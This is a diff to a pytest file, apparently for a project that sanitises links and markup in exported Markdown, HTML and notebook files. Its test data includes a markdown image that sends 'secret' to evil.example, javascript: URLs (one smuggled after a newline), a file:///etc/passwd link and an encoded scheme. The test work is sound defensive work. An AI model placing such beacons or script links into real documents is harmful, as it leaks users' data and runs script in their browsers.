@@ -9,10 +9,13 @@ from pathlib import Path
 import pytest
 from markdown_it import MarkdownIt
 
+from leaf.documents.export import leaving
+from leaf.documents.markdown import allowed
+from leaf.exports.html import words
 from leaf.exports.manifest import Manifest
 from leaf.exports.notebook import _text
 from leaf.exports.readme import readme
-from leaf.shapes.harmless import JOINER, harmless_markdown, inert
+from leaf.shapes.harmless import JOINER, harmless_markdown, inert, leads_out
 from leaf.tables.child import export_csv
 
 PICTURE = "![x](https://evil.example/?d=secret)"
@@ -103,3 +106,39 @@ def test_names_of_files_and_titles_do_not_act_in_a_bundle_or_a_notebook() -> Non
     for text in (readme(manifest), _text(PICTURE)["source"]):
         assert "<img" not in MarkdownIt("commonmark", {"html": True}).render(text)
         assert JOINER in text
+
+
+@pytest.mark.parametrize(
+    ("address", "leads"),
+    [
+        ("https://a.example/b?c=d", True),
+        ("HTTP://a.example", True),
+        ("mailto:a@b.example", True),
+        ("report.exe", False),
+        ("//evil.example/share", False),
+        ("#part", False),
+        ("https:a.example", False),
+        ("https&colon;//a.example", False),
+        ("https://a.example\njavascript:x", False),
+        ("javascript:alert(1)//https://a.example", False),
+        ("file:///etc/passwd", False),
+        (" https://a.example", False),
+    ],
+)
+def test_a_link_in_a_file_leads_to_the_web_or_to_mail_and_never_to_the_disk(
+    address: str, leads: bool
+) -> None:
+    assert leads_out(address) is leads
+    assert (allowed(address) == address) is leads
+    if "&" not in address and not address.startswith(" "):  # which the parser takes away before
+        assert ("<a " in words(f"[a]({address})")) is leads
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_acts_in_a_document_that_leaves(attack: str) -> None:
+    for document in (attack, f"Before\n{attack}\n\nafter"):
+        for ending in ("md", "markdown"):
+            left = leaving(document, ending)
+            page = MarkdownIt("commonmark", {"html": True}).enable("table").render(left)
+            assert not any(sign in page for sign in ("<img", "<svg", "<script", "<!--"))
+        assert leaving(document, "html") == document
